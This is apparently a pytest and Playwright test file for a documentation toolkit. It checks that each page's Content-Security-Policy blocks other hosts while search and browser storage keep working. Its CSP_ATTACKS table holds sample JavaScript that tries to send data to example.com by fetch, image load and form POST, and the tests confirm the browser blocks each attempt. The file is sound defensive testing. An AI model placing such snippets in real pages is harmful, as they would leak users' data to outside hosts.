"""The privacy lock: every page carries a Content-Security-Policy that forbids any other host,
and the browser enforces it (from file:// and from a web server) without breaking search or
the browser storage that keeps answers."""

from __future__ import annotations

import functools
import re
import threading
from html.parser import HTMLParser
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from playwright.sync_api import expect

CSP_ATTACKS = {
    "connect-src": "fetch('http://example.com/').catch(() => null)",
    "img-src": "document.body.appendChild(Object.assign(new Image(), {src: 'https://example.com/x.png'}))",
    "form-action": """(() => {
        const form = Object.assign(document.createElement('form'), {method: 'post', action: 'https://example.com/'});
        form.appendChild(Object.assign(document.createElement('input'), {name: 'answer', value: 'secret'}));
        document.body.appendChild(form);
        form.submit();
    })()""",
}


def test_every_page_carries_a_policy_that_forbids_other_hosts(site: Path):
    pages = sorted(site.glob("*.html"))
    assert len(pages) >= 9
    for page in pages:
        policies = _csp_metas(page.read_text(encoding="utf-8"))
        assert len(policies) == 1, (
            f"{page.name}: expected one Content-Security-Policy meta, found {len(policies)}"
        )
        directives = _directives(policies[0])
        assert directives.get("connect-src") == ["'self'"], page.name
        assert directives.get("form-action") == ["'none'"], page.name
        assert "default-src" in directives, page.name
        sources = [source for values in directives.values() for source in values]
        other_hosts = [
            source for source in sources if re.match(r"(https?:|wss?:|\*|//)", source) or "." in source
        ]
        assert other_hosts == [], f"{page.name}: the policy allows other hosts: {other_hosts}"


@pytest.mark.browser
def test_browser_blocks_requests_to_other_hosts_from_file(context, site: Path):
    network = _record_network(context)
    page = context.new_page()
    page.goto((site / "index.html").as_uri())
    page.wait_for_load_state("load")
    # The lock leaves what the toolkit needs working: search, and the browser storage. (Checked
    # first: after the blocked form, Playwright waits for a navigation that never comes.)
    _assert_search_finds(page, "referral")
    assert (
        page.evaluate("localStorage.setItem('ct-probe', 'kept'); localStorage.getItem('ct-probe')") == "kept"
    )

    page.evaluate(
        """() => {
            window.cspViolations = [];
            document.addEventListener('securitypolicyviolation', event =>
                window.cspViolations.push(event.effectiveDirective + ' ' + event.blockedURI));
        }"""
    )
    for directive, attack in CSP_ATTACKS.items():
        page.evaluate(attack)
        page.wait_for_function(
            "directive => window.cspViolations.some(v => v.startsWith(directive + ' '))",
            arg=directive,
            timeout=5000,
        )
    violations = page.evaluate("window.cspViolations")
    assert all("example.com" in violation for violation in violations), violations
    assert page.url == (site / "index.html").as_uri(), "the form must not have been sent"
    assert network.outside(site.as_uri() + "/") == []
    assert "https://example.com/x.png" in network.blocked_by_policy


@pytest.mark.browser
def test_privacy_page_names_everything_the_toolkit_stores(recorder):
    page = recorder.open("mission")
    page.locator("textarea[data-field='mission']").focus()
    page.keyboard.type("Protect every victim")
    page.evaluate("CTToolkit.workbook.flush()")
    page.locator(".md-search__input").click()
    page.keyboard.type("referral")
    page.locator(".md-search-result__item").first.wait_for()
    stored = page.evaluate("[...Object.keys(localStorage), ...Object.keys(sessionStorage)]")
    assert stored, "typing an answer must store it, or this test proves nothing"
    assert page.evaluate("document.cookie") == ""
    privacy = recorder.open("privacy").locator("article").inner_text()
    assert [key for key in stored if key not in privacy] == [], (
        "the privacy page must name every stored entry"
    )


@pytest.mark.browser
def test_search_works_over_http_with_the_policy_in_place(context, site: Path):
    handler = functools.partial(_QuietHandler, directory=str(site))
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        origin = f"http://127.0.0.1:{server.server_address[1]}/"
        network = _record_network(context)
        page = context.new_page()
        errors: list[str] = []
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.goto(origin + "index.html")
        page.wait_for_load_state("load")
        _assert_search_finds(page, "referral")
        assert any(url.endswith("search/search_index.json") for url in network.urls), (
            "hosted search should fetch its index from the same server"
        )
        assert network.outside(origin) == []
        assert errors == []
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=5)


# Helper functions ----------------------------------------------------------------------------


class _Network:
    def __init__(self):
        self.urls: list[str] = []  # every request the page started
        self.sent: list[str] = []  # the requests that got past the browser's checks
        self.blocked_by_policy: list[str] = []

    def outside(self, inside: str) -> list[str]:
        """Requests that left the browser for anywhere but `inside`."""
        return [url for url in self.sent if not url.startswith((inside, "data:", "blob:"))]


def _record_network(context) -> _Network:
    """Record what the context requests. A request the CSP blocks never reaches the route
    handler; one that does reach it is on its way out, and is stopped there if it would
    leave for another host, so that a failing test sends nothing either."""
    network = _Network()
    context.on("request", lambda request: network.urls.append(request.url))
    context.on(
        "requestfailed",
        lambda request: network.blocked_by_policy.append(request.url) if request.failure == "csp" else None,
    )

    def stop_other_hosts(route):
        url = route.request.url
        network.sent.append(url)
        if url.startswith(("http://127.0.0.1:", "file:", "data:", "blob:")):
            route.continue_()
        else:
            route.abort()

    context.route("**/*", stop_other_hosts)
    return network


def _assert_search_finds(page, word: str) -> None:
    page.locator(".md-search__input").click()
    # Material's search reacts to key presses, not to fill().
    page.keyboard.type(word)
    # Results update as each letter arrives: wait for those of the whole word.
    first = page.locator(".md-search-result__item").first
    expect(first).to_contain_text(word, ignore_case=True, timeout=10000)
    page.keyboard.press("Escape")


class _QuietHandler(SimpleHTTPRequestHandler):
    def log_message(self, format, *args):
        pass


class _CspMetas(HTMLParser):
    def __init__(self):
        super().__init__()
        self.policies: list[str] = []

    def handle_starttag(self, tag, attrs):
        values = dict(attrs)
        if tag == "meta" and (values.get("http-equiv") or "").lower() == "content-security-policy":
            self.policies.append(values.get("content") or "")


def _csp_metas(html: str) -> list[str]:
    parser = _CspMetas()
    parser.feed(html)
    return parser.policies


def _directives(policy: str) -> dict[str, list[str]]:
    parts = [part.split() for part in policy.split(";") if part.strip()]
    return {part[0].lower(): part[1:] for part in parts}
